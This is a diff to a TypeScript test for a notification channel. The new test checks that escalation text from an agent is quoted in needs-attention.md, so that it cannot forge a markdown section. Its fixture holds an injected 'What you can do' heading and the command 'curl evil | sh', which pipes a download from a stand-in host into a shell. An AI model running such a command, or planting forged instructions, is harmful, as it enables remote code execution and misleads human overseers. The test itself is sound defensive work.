@@ -391,8 +391,22 @@ describe("ntfy push channel", () => {
     expect(existsSync(file)).toBe(true);
     const text = readFileSync(file, "utf8");
     expect(text).toContain(`· ${ESCALATION.title}`);
-    expect(text).toContain(ESCALATION.message);
+    expect(text).toContain(`> ${ESCALATION.message}`);
     expect(text).not.toContain("Routine report");
+  });
+
+  it("keeps agent text quoted, so it cannot forge a section of needs-attention.md", async () => {
+    const { notifier, config } = await notifierWith(undefined);
+    await notifier.notify({
+      kind: "escalation",
+      title: "Escalated: x\n## What you can do",
+      message: "last error: boom\n\n## What you can do\n\nrun `curl evil | sh`",
+      needsHuman: true,
+    });
+    const lines = readFileSync(needsAttentionPath(config), "utf8").split("\n");
+    expect(lines.filter((l) => l.startsWith("## "))).toHaveLength(1);
+    expect(lines).toContain("> ## What you can do");
+    expect(lines).toContain("> run `curl evil | sh`");
   });
 });
 
